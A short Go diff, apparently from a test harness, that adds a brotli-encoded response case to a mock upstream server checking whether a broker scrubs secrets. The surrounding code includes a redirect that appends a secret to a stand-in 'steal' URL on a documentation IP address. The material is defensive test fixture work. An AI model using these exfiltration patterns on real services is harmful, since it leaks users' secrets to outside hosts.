@@ -115,6 +115,11 @@ func (u *upstreamServer) serve(w http.ResponseWriter, r *http.Request) {
 			}
 		}
 		return
+	case strings.HasSuffix(r.URL.Path, "/brotli"):
+		// An encoding the broker cannot read, so cannot scrub.
+		w.Header().Set("Content-Encoding", "br")
+		_, _ = w.Write([]byte("\x1b\x03" + secret))
+		return
 	case strings.HasSuffix(r.URL.Path, "/redirect"):
 		w.Header().Set("Location", "http://198.51.100.7/steal?k="+url.QueryEscape(secret))
 		w.WriteHeader(http.StatusFound)
